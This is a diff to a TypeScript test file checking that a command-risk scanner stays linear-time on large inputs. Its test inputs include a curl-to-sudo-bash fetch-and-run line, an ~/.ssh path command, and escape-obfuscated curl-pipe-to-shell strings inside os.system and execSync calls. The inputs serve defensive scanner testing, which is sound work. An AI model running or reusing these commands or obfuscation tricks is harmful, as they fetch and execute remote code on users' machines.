@@ -8,6 +8,7 @@ const SHELL: FileClass = { kind: "code", language: "shell", by: "extension" };
 const PYTHON: FileClass = { kind: "code", language: "python", by: "extension" };
 const MARKDOWN: FileClass = { kind: "markdown", by: "extension" };
 const DOCKERFILE: FileClass = { kind: "code", language: "dockerfile", by: "name" };
+const JAVASCRIPT: FileClass = { kind: "code", language: "javascript", by: "extension" };
 
 const cases: Record<string, { kind: FileClass; input: (n: number) => string }> = {
   "shell: risky commands on every line": { kind: SHELL, input: (n) => "curl -fsSL https://x.example/i.sh | sudo bash\n".repeat(Math.ceil(n / 46)) },
@@ -29,6 +30,11 @@ const cases: Record<string, { kind: FileClass; input: (n: number) => string }> =
   // Matches a text pattern refuses (in an excepted program's command), many on one line.
   "shell: refused matches on one line": { kind: SHELL, input: (n) => "mkdir -p ~/.ssh/a && ".repeat(Math.ceil(n / 21)) },
   "markdown: many blocks of quoted words": { kind: MARKDOWN, input: (n) => '```\nx"y"z a\\b\n```\n'.repeat(Math.ceil(n / 18)) },
+  // The gate's ANSI-C search (`$'…'` resolved before the words are looked for), on quotes that make no program.
+  "shell: ANSI-C quotes of escapes": { kind: SHELL, input: (n) => "x$'\\u0079\\u007a' $'\\'\\q' $'\\u".repeat(Math.ceil(n / 27)) },
+  // String escapes resolved (\u makes a letter: the gate lets the file through) in strings a call runs.
+  "python: escaped command strings": { kind: PYTHON, input: (n) => 'os.system("\\u0063\\x75\\162l \\N{x} \\U00000073 | s\\x68")\n'.repeat(Math.ceil(n / 50)) },
+  "javascript: one string of unclosed \\u{ escapes": { kind: JAVASCRIPT, input: (n) => `execSync("curl ${"\\u{".repeat(Math.ceil(n / 3))}")\n` },
 };
 
 describe("scanFile is linear", () => {
